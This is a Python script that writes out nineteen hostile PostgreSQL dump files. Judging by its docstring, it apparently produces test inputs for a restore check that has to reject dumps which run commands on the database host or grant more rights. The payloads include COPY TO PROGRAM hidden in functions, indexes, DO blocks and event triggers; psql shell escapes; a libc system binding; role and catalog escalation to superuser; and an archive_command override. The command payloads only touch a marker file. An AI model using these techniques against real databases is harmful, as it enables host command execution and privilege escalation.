"""Dumps that want to run commands on the database's host, or to get more rights.

hostile.py FOLDER HOST_FILE

Writes NAME.sql for each into FOLDER: whole dumps by their form. HOST_FILE is what they try to make on the host.
"""
import sys
from pathlib import Path

folder, target = Path(sys.argv[1]), sys.argv[2]
HEAD = """--
-- PostgreSQL database dump
--

-- Dumped from database version 15.18
-- Dumped by pg_dump version 15.18

SET client_encoding = 'UTF8';
SET standard_conforming_strings = on;

CREATE TABLE public.loot (id integer);
"""
TAIL = """
--
-- PostgreSQL database dump complete
--
"""
TOUCH = f"touch {target}"
ATTACKS = {
    "program": f"COPY public.loot TO PROGRAM '{TOUCH}';",
    "program-after-reset": f"RESET ROLE;\nRESET SESSION AUTHORIZATION;\nCOPY public.loot TO PROGRAM '{TOUCH}';",
    "program-in-do": f"DO $$BEGIN EXECUTE 'COPY public.loot TO PROGRAM ''{TOUCH}'''; END$$;",
    "program-in-function": f"CREATE FUNCTION public.f() RETURNS integer LANGUAGE plpgsql AS $$BEGIN "
    f"COPY public.loot TO PROGRAM '{TOUCH}'; RETURN 1; END$$;\nCREATE TABLE public.t (id integer DEFAULT public.f());\n"
    "INSERT INTO public.t DEFAULT VALUES;",
    "program-in-index": f"CREATE FUNCTION public.f(integer) RETURNS integer LANGUAGE plpgsql IMMUTABLE AS $$BEGIN "
    f"COPY public.loot TO PROGRAM '{TOUCH}'; RETURN 1; END$$;\nINSERT INTO public.loot VALUES (1);\n"
    "CREATE INDEX i ON public.loot (public.f(id));",
    "file": f"COPY public.loot TO '{target}';",
    "large-object": f"SELECT lo_export(lo_from_bytea(0, 'x'), '{target}');",
    "authorization": f"SET SESSION AUTHORIZATION postgres;\nCOPY public.loot TO PROGRAM '{TOUCH}';",
    "role": f"SET ROLE postgres;\nCOPY public.loot TO PROGRAM '{TOUCH}';",
    "meta": f"\\! {TOUCH}",
    "meta-behind-copy": f"COPY public.loot (id) FROM stdin;\n1\n\\.\n\n\\! {TOUCH}",
    "meta-copy": f"\\copy public.loot to program '{TOUCH}'",
    "c-function": "CREATE FUNCTION public.f(cstring) RETURNS integer LANGUAGE c AS '/lib/x86_64-linux-gnu/libc.so.6', 'system';",
    "superuser": "ALTER ROLE nexus_user SUPERUSER;",
    "membership": "GRANT pg_execute_server_program TO nexus_user;\nGRANT postgres TO nexus_user;",
    "system": f"ALTER SYSTEM SET archive_command = '{TOUCH}';",
    "catalog": "UPDATE pg_catalog.pg_authid SET rolsuper = true WHERE rolname = 'nexus_user';",
    "function-of-the-catalog": "CREATE OR REPLACE FUNCTION pg_catalog.lower(text) RETURNS text LANGUAGE sql AS 'select $1';",
    "event-trigger": f"CREATE FUNCTION public.f() RETURNS event_trigger LANGUAGE plpgsql AS $$BEGIN "
    f"COPY public.loot TO PROGRAM '{TOUCH}'; END$$;\nCREATE EVENT TRIGGER e ON ddl_command_end EXECUTE FUNCTION public.f();",
}

for name, text in ATTACKS.items():
    (folder / f"{name}.sql").write_text(HEAD + "\n" + text + "\n" + TAIL)
